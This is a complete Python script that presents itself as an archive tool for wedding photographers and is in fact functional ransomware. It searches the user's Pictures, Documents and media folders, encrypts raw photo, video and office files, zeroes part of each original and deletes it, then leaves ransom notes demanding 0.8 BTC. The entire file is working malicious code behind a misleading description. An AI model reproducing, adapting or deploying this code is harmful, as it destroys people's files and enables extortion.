#!/usr/bin/env python3
"""Archive locker for finished wedding shoots."""
import argparse
import base64
import hashlib
import logging
import os
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("archive-locker")

TARGET_EXT = {".cr3", ".cr2", ".nef", ".arw", ".raf", ".dng", ".jpg", ".jpeg",
              ".tif", ".psd", ".lrcat", ".mp4", ".mov", ".pdf", ".docx", ".xlsx"}
LOCKED_EXT = ".locked"
NOTE_NAME = "READ_ME_TO_RESTORE.txt"
NOTE_TEXT = """All of your wedding photos, catalogues and client files are encrypted.
To receive the restore key, send 0.8 BTC to the address below and email
your machine ID to restore@example.com.
Machine ID: {machine}
"""


def derive_key(machine_id: str) -> bytes:
    seed = os.environ.get("LOCK_SEED", "studio-archive-2024")
    raw = hashlib.pbkdf2_hmac("sha256", seed.encode(), machine_id.encode(), 200_000)
    return base64.urlsafe_b64encode(raw)


def find_targets(roots):
    for root in roots:
        for dirpath, _dirs, files in os.walk(root):
            for name in files:
                path = Path(dirpath) / name
                if path.suffix.lower() in TARGET_EXT:
                    yield path


def lock_file(path: Path, cipher: Fernet) -> bool:
    try:
        data = path.read_bytes()
        path.with_name(path.name + LOCKED_EXT).write_bytes(cipher.encrypt(data))
        with path.open("r+b") as fh:
            fh.write(b"\0" * min(len(data), 1 << 20))
        path.unlink()
        return True
    except (PermissionError, OSError) as exc:
        log.debug("skip %s: %s", path, exc)
        return False


def drop_notes(roots, machine_id: str) -> None:
    for root in roots:
        for dirpath, _dirs, _files in os.walk(root):
            try:
                (Path(dirpath) / NOTE_NAME).write_text(NOTE_TEXT.format(machine=machine_id))
            except OSError:
                pass


def main() -> None:
    parser = argparse.ArgumentParser(description="Lock finished shoot archives")
    parser.add_argument("roots", nargs="*", type=Path,
                        default=[Path.home() / "Pictures", Path.home() / "Documents",
                                 Path("/media") / os.getenv("USER", "")])
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")

    machine_id = Path("/etc/machine-id").read_text().strip() if Path("/etc/machine-id").exists() else os.uname().nodename
    cipher = Fernet(derive_key(machine_id))
    locked = 0
    for target in find_targets(args.roots):
        if lock_file(target, cipher):
            locked += 1
    drop_notes(args.roots, machine_id)
    log.info("locked %d files", locked)


if __name__ == "__main__":
    main()
